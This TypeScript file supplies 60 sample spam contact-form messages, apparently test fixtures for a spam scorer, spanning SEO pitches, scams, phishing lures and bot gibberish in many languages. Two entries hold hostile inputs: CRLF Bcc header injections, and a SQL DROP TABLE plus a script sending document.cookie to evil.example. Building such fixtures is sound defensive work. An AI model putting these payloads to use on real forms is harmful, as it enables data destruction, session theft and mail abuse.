import type { Post } from './people.ts'

/** 60 messages as robots and cold sellers send them, written before the scorer was measured against them. */
export const spam: readonly Post[] = [
  // Search engines
  [
    'plumber',
    'Mark Wilson',
    'mark@rankboosters.example',
    'Hello, I was looking at your website and noticed it is not ranking on the first page of Google for your main keywords. We can help you get more traffic. Can I send you a free SEO audit?',
  ],
  [
    'photographer',
    'Emily Carter',
    'emilycarter.seo@gmail.com',
    'I just went through your website and found a few issues with on-page optimization that are holding it back in search results. Would you like a quote for fixing them?',
  ],
  [
    'plumber',
    'Rohit Sharma',
    'rohit.digital@gmail.com',
    'Dear Sir/Madam, We are a leading digital marketing company from India. Our services: SEO, SMO, PPC, website design & development, mobile app. Please share your phone number for detailed proposal. Thanks & regards',
  ],
  [
    'restaurant',
    'Julien',
    'julien@agence-web.example',
    'Bonjour, nous avons analysé votre site et son référencement naturel est faible. Nous pouvons le placer en première page de Google. Audit gratuit sur demande.',
  ],
  [
    'yoga',
    'Agencia',
    'ventas@crecer.example',
    '¿Quiere más clientes? Aumentamos las visitas a su web en 30 días. Resultados garantizados. Responda SI.',
  ],
  [
    'carpenter',
    '株式会社ウェブ',
    'sales@webseo.example',
    '突然のご連絡失礼いたします。貴社サイトの検索順位を上位表示させるSEO対策をご提案しております。無料診断はこちら https://webseo.example/shindan',
  ],
  [
    'plumber',
    'Sophie',
    'sophie@growthhq.example',
    'Quick question – are you the right person to talk to about your website? We helped 3 other plumbers in your area double their leads.',
  ],
  [
    'plumber',
    'Monique',
    'monique@explainers.example',
    'We have produced over 500 explainer videos. Our prices start from just $195. Would you be interested in a video for your business? Reply with "yes" and your website.',
  ],
  [
    'plumber',
    'Amit Kumar',
    'amit.kumar@gmail.com',
    'Hi, would you be interested in redesigning your website? We are a web design company, we can show you our past work. Please let me know your budget.',
  ],
  [
    'photographer',
    'James Miller',
    'james@guestposts.example',
    'Hello, I would like to publish a guest post on your website. I will pay $50. The article will contain one do-follow link. Please let me know your price.',
  ],
  [
    'restaurant',
    'Partenariat',
    'seo@partenariat.example',
    'Bonjour, acceptez-vous les articles sponsorisés sur votre site avec un lien dofollow ? Quel est votre tarif ?',
  ],
  [
    'agency',
    'DA Links',
    'sales@dalinks.example',
    'Buy backlinks cheap! 1000 dofollow links https://dalinks.example https://dalinks.example/vip https://dalinks.example/gold',
  ],
  // Lists, mailings, robots' offers
  [
    'plumber',
    'Data Sales',
    'lists@b2bdata.example',
    'We have a verified database of 2 million UK homeowners with emails and phone numbers. Special offer this week only. Interested? I will send counts and pricing.',
  ],
  [
    'plumber',
    'Trudy',
    'trudy@contactads.example',
    'Want to submit your advertisement on thousands of advertising sites every month? Pay one flat rate and get virtually unlimited traffic forever! For details: http://adsites.example',
  ],
  [
    'dentist',
    'DentalSoft',
    'demo@dentalsoft.example',
    'Hi Doctor, our AI software reduces no-shows by 42%. Can I book you in for a 10 minute demo this week?',
  ],
  [
    'plumber',
    'Card Terminals',
    'sales@payterm.example',
    'Cut your card processing fees to 0.3%. Free terminal, no monthly cost. Call me back for a no obligation quote. Limited time offer.',
  ],
  [
    'photographer',
    'Award',
    'judges@businessawards.example',
    'Congratulations! Your company has been nominated for the Best Photography Studio 2026 award. To claim your trophy and winner package visit https://businessawards.example/claim',
  ],
  // Money
  [
    'photographer',
    'Business Loans',
    'loans@bizfund.example',
    'We offer business loan and merchant cash advance with low interest rate of 2%. Contact us today with amount needed and duration.',
  ],
  [
    'hairdresser',
    'Kredit',
    'kredit@sofort.example',
    'Sofortkredit ohne Schufa bis 50.000 Euro. Auszahlung in 24 Stunden. Jetzt beantragen!',
  ],
  [
    'plumber',
    'Crypto Prof',
    'win@cryptoprofit.example',
    'Turn $250 into $10,000 a week with our AI bitcoin trading robot. Register now: https://cryptoprofit.example/start',
  ],
  [
    'dentist',
    'Trader',
    'trader@fxgain.example',
    'Guadagna 500 euro al giorno con il trading online automatico. Iscriviti gratis: https://fxgain.example/it',
  ],
  [
    'carpenter',
    '投資クラブ',
    'club@toushi.example',
    '仮想通貨で月収100万円。初心者でも安心。今すぐLINE登録 https://toushi.example/line',
  ],
  [
    'photographer',
    'Investor Relations',
    'ir@pennystock.example',
    'This stock is about to explode 1200%. Get in before Monday. Not financial advice. stockalert.example',
  ],
  // Gambling, pills, dating
  ['hairdresser', 'Slots', 'slots@spielo.example', 'Online Casino ohne Lizenz mit 500 Freispielen! www.spielo.example'],
  ['piano', '토토', 'toto@safe.example', '안전놀이터 먹튀검증 카지노사이트 첫충 30% https://safe.example'],
  [
    'plumber',
    'Pharma',
    'meds@pills.example',
    'Buy Viagra, Cialis, Xanax without prescription. Fast shipping worldwide. https://pills.example',
  ],
  [
    'yoga',
    'Dieta',
    'keto@keto.example',
    'Adelgaza 10 kilos en un mes con estas gomitas keto. 80% de descuento hoy: https://keto.example',
  ],
  [
    'hairdresser',
    'Vika',
    'vika@treffen.example',
    'Heiße Frauen in deiner Nähe suchen Sex ohne Verpflichtung: https://treffen.example',
  ],
  [
    'photographer',
    'OnlyFans Mgmt',
    'of@models.example',
    'We recruit models. Earn $10k a month on OnlyFans. Apply: https://ofmodels.example/apply',
  ],
  // Link lists and markup
  [
    'photographer',
    'JamesTum',
    'james@tum.example',
    'https://a1.example https://a2.example https://a3.example https://a4.example',
  ],
  ['dentist', 'Michaelnaf', 'mich@naf.example', 'click here -> http://free-iphone.example/?id=22 <- winner'],
  ['plumber', 'RayBan', 'rb@sun.example', 'Ray-Ban sunglasses clearance $19.99 today only www.rb-sale.example'],
  [
    'carpenter',
    'Brianvah',
    'brian@vah.example',
    'xrumer blast https://forum1.example https://forum2.example https://forum3.example',
  ],
  [
    'restaurant',
    'IPTV',
    'abo@iptvfr.example',
    'Abonnement IPTV 12 mois 45€ toutes les chaînes +24h test gratuit https://iptvfr.example',
  ],
  // Cyrillic to websites that do not use it
  [
    'photographer',
    'Сергей',
    'sergey@kredit.example',
    'Срочный займ на карту без отказа за 5 минут https://zaim.example',
  ],
  ['yoga', 'Дмитрий', 'dima@ssylki.example', 'Прогон хрумером, вечные ссылки, рост позиций. Недорого.'],
  [
    'agency',
    'Раскрутка',
    'seo@rask.example',
    'Раскрутка сайта, накрутка подписчиков, продвижение ВКонтакте. Скидка 30% новым клиентам',
  ],
  [
    'plumber',
    'Знакомства',
    'znak@love.example',
    'Знакомства для взрослых без регистрации бесплатно https://znakom.example',
  ],
  // Distant suppliers and advertisements in other languages
  [
    'plumber',
    'Lily',
    'lily@valves-factory.example',
    'Dear Purchasing Manager, we are a professional manufacturer of brass valves and pipe fittings in China with 15 years experience. OEM accepted. MOQ 500 pcs. Please find our catalogue at www.valves-factory.example',
  ],
  [
    'yoga',
    'Jack Li',
    'jack@yogamat.example',
    'Dear friend, we produce TPE yoga mat, custom logo, low MOQ, 7 days delivery. Please contact me for quotation.',
  ],
  ['photographer', '发票', 'fapiao@cn.example', '代开发票，税点低，真实可查，联系电话13800000000 微信同号'],
  [
    'photographer',
    'علي',
    'ali@ads.example',
    'نقدم خدمات التسويق الالكتروني وتصميم المواقع بأفضل الأسعار تواصل معنا https://ads-ar.example',
  ],
  [
    'restaurant',
    'Reklam',
    'reklam@tr.example',
    'Merhaba, işletmenizi Google’da ilk sayfaya taşıyalım. Ücretsiz analiz için https://reklam.example',
  ],
  [
    'dentist',
    'Werbung',
    'vertrieb@werbung.example',
    'Wir verkaufen Ihnen qualifizierte Patientenanfragen in Ihrer Region, Abrechnung nur bei Erfolg. Termin buchen: https://patienten.example',
  ],
  // Filled-in hidden fields
  ['plumber', 'Anthony', 'anthony@gmail.com', 'Hello, nice website', 'https://spam1.example'],
  ['yoga', 'test', 'test@test.example', 'test test test', 'test'],
  ['piano', 'qwe', 'qwe@gmail.com', 'qwe', 'https://qwe.example'],
  // Mail header injections
  [
    'plumber',
    'Bob\r\nBcc: everyone@example.com',
    'bob@example.com',
    'Content-Type: text/html\r\nBcc: list@example.com\r\n\r\n<a href="http://x.example">win</a>',
  ],
  [
    'agency',
    'Header',
    'h@example.com',
    "'; DROP TABLE messages; -- <script>document.location='https://evil.example/'+document.cookie</script>",
  ],
  // Robots that type anything
  ['hairdresser', 'RtGhYuJkIoLp', 'hgjdkslw@gmail.com', 'qAzWsXeDcRfVtGbYhN'],
  ['dentist', 'GfRtYhBvCdEs', 'tgbyhn@gmail.com', 'bGtFrDeSwAqZxCvBnM'],
  // Threats, phishing, tricks
  [
    'hairdresser',
    'DHL',
    'paket@dhl-info.example',
    'Ihr Paket konnte nicht zugestellt werden. Bitte zahlen Sie 1,99 € Zollgebühr: https://dhl-zoll.example',
  ],
  [
    'agency',
    'Domain Services',
    'billing@domains.example',
    'FINAL NOTICE: Your domain search engine registration expires today. Failure to complete payment will result in cancellation. Pay securely: https://domreg.example/pay',
  ],
  [
    'piano',
    '택배',
    'post@kr-post.example',
    '[우체국] 주소 불일치로 배송이 지연되었습니다. 확인하세요 https://post-kr.example',
  ],
  // Cold offers that read almost like a person's
  [
    'restaurant',
    'Nathalie',
    'nathalie@influence.example',
    'Bonjour, je suis influenceuse (85k abonnés). Je propose une publication en échange de 400 €. Voici mon média kit : https://nathalie.example/kit',
  ],
  [
    'yoga',
    'Eva',
    'eva@colabora.example',
    'Somos una plataforma con miles de usuarios y queremos incluir tu centro. Alta gratuita y comisión del 15%. Regístrate en https://colabora.example',
  ],
  [
    'carpenter',
    '求人サイト',
    'job@kyujin.example',
    '求人広告を今だけ無料で掲載できます。人手不足を解決しませんか。お申し込みはこちら https://kyujin.example',
  ],
  [
    'restaurant',
    'Avis',
    'avis@etoiles.example',
    'Achetez des avis Google 5 étoiles, livraison rapide et discrète. Tarifs sur https://etoiles.example',
  ],
  [
    'agency',
    'Zoom Data',
    'leads@zoomdata.example',
    'Scraped 3 million Shopify stores with owner emails, phone, revenue. Price $200 whole list. Pay by crypto. Telegram @zoomdata',
  ],
  [
    'yoga',
    'Tarot',
    'tarot@vidente.example',
    'Amarres de amor efectivos en 24 horas. Vidente africano, pago después del resultado. WhatsApp +34 600 000 000',
  ],
]
